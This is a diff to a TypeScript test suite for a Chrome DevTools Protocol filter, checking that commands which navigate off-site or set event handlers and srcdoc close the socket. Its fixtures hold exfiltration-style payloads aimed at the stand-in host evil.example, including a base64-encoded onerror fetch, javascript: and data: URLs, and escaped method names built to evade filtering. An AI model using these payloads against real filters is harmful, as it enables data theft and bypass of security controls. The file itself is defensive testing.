@@ -160,17 +160,25 @@ const cdpLoads: Record<string, (url: string) => string> = {
   'Fetch.continueRequest': (url) => JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'interception-1', url })),
   'DOM.setAttributeValue (an image src)': (url) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: url })),
   'DOM.setAttributeValue (a srcset, scheme-relative)': (url) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'SRCSET', value: `a.png 1x, ${url.replace(/^https?:/i, '')} 2x` })),
+  'DOM.setAttributesAsText': (url) => JSON.stringify(cdp('DOM.setAttributesAsText', { nodeId: 7, text: `alt="chart" src='${url}'` })),
+  'a style\'s url()': (url) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: `background: url("${url}") no-repeat` })),
   'with a flat-mode sessionId': (url) => JSON.stringify({ ...cdp('Page.navigate', { url }), sessionId: 'S1' }),
   'inside Target.sendMessageToTarget': (url) => JSON.stringify(cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Page.navigate', { url }, 9)) })),
   'escaped': (url) => JSON.stringify(cdp('Page.navigate', { url })).replace('"Page.navigate"', '"Page\\u002enavigate"').replace('"url"', '"u\\u0072l"'),
   'first key wins': (url) => `{"id":1,"method":"Page.navigate","params":{"url":${JSON.stringify(url)}},"method":"Runtime.enable"}`,
   'binary': (url) => JSON.stringify(cdp('Page.navigate', { url })),
 };
+t.test('a CDP command that sets an event handler or an iframe\'s srcdoc closes the socket', async (t) => {
+  for (const msg of [cdp('DOM.setAttributeValue', { nodeId: 7, name: 'onerror', value: 'fetch(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU="))' }), cdp('DOM.setAttributesAsText', { nodeId: 7, text: 'src=x OnError="location=1"' }), cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcdoc', value: '<img src=//evil.example/?d=4111>' })]) {
+    t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, String(msg.method));
+  }
+});
+
 const offsite = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/', 'HTTPS://docs.example.evil.example/?d=4111', 'javascript:location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")', 'data:text/html,<img src=https://evil.example/?d=4111>', ' https://evil.example/?d=4111'];
 const navigated = (): string[] => ran.flatMap((m) => {
   const o = m as { method?: string; params?: { url?: string; value?: string; message?: string } };
   if (o.method === 'Target.sendMessageToTarget') return [String(o.params?.message)];
-  return typeof o.method === 'string' && /^[A-Z]/.test(o.method) ? [String(o.params?.url ?? o.params?.value ?? '')] : [];
+  return typeof o.method === 'string' && /^[A-Z]/.test(o.method) ? [String(o.params?.url ?? o.params?.value ?? (o.params as { text?: string } | undefined)?.text ?? '')] : [];
 });
 
 t.test('a CDP command that has the remote browser load another site is refused, the socket closed, in every spelling', async (t) => {
@@ -193,6 +201,7 @@ t.test('control: CDP traffic that loads an allowed site or nothing goes on', asy
     JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/img/logo.png' })),
     JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: 'logo.png 1x, https://docs.example/logo@2x.png 2x' })),
     JSON.stringify(cdp('Runtime.evaluate', { expression: 'document.title', returnByValue: true })),
+    JSON.stringify(cdp('DOM.setAttributesAsText', { nodeId: 7, text: 'class="wide" src="/img/a.png" style="color: red; background: url(/bg.png)"' })),
     cdpLoads['inside Target.sendMessageToTarget']!('https://docs.example/'),
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
